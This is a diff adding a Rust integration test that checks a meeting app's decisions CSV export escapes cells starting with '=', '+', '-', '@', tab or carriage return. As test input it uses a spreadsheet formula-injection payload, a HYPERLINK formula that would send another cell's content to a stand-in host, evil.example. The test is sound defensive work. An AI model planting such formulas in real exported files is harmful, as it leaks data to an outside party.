@@ -627,3 +627,74 @@ async fn open_actions_are_carried_to_the_next_meeting_and_meetings_are_marked_he
     // Decisions may still be recorded for a held meeting.
     decide(&scene, meeting, "Bilan de la séance", "adopted").await;
 }
+
+/// A title is a formula for Excel or LibreOffice when it begins with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return: such cells are written with a leading `'`, so they stay text.
+#[actix_web::test]
+async fn the_csv_register_runs_no_formula() {
+    let (scene, meeting, _, _) = convened().await;
+    let hostile = r#"=HYPERLINK("https://evil.example/?"&E2;"ok")"#;
+    let (code, decision) = status_and_body(
+        scene
+            .ines
+            .post(
+                &format!("/api/meetings/{meeting}/decisions"),
+                json!({"title": hostile, "text": "@SUM(1+1)", "status": "adopted", "positions": [
+                    {"organization_id": scene.mjc, "position": "consent"},
+                    {"organization_id": scene.caf, "position": "consent"}
+                ]}),
+            )
+            .await,
+    )
+    .await;
+    assert_eq!(code, 201, "{decision}");
+    act(&scene, &decision, "+33 1 23 45 67 89", scene.caf, today()).await;
+    let (code, other) = status_and_body(
+        scene
+            .ines
+            .post(
+                &format!("/api/meetings/{meeting}/decisions"),
+                json!({"title": "-2+3", "text": "Texte ordinaire", "status": "deferred", "positions": []}),
+            )
+            .await,
+    )
+    .await;
+    assert_eq!(code, 201, "{other}");
+
+    for (lang, delimiter) in [("fr", b';'), ("en", b',')] {
+        let response = scene
+            .claire
+            .get(&format!(
+                "/api/projects/{}/decisions.csv?lang={lang}",
+                scene.project
+            ))
+            .await;
+        let bytes = response.bytes().await.unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .from_reader(&bytes[3..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{lang}: a cell that a spreadsheet would run: {cell:?}"
+                );
+            }
+        }
+        let attack = rows.iter().find(|r| r[2].contains("HYPERLINK")).unwrap();
+        assert_eq!(&attack[2], format!("'{hostile}"));
+        assert_eq!(&attack[4], "'@SUM(1+1)");
+        assert!(
+            attack[6].starts_with("'+33 1 23 45 67 89"),
+            "{}",
+            &attack[6]
+        );
+        assert!(rows.iter().any(|r| &r[2] == "'-2+3"));
+        // Ordinary cells are left alone.
+        assert_eq!(
+            &rows.iter().find(|r| &r[2] == "'-2+3").unwrap()[4],
+            "Texte ordinaire"
+        );
+    }
+}
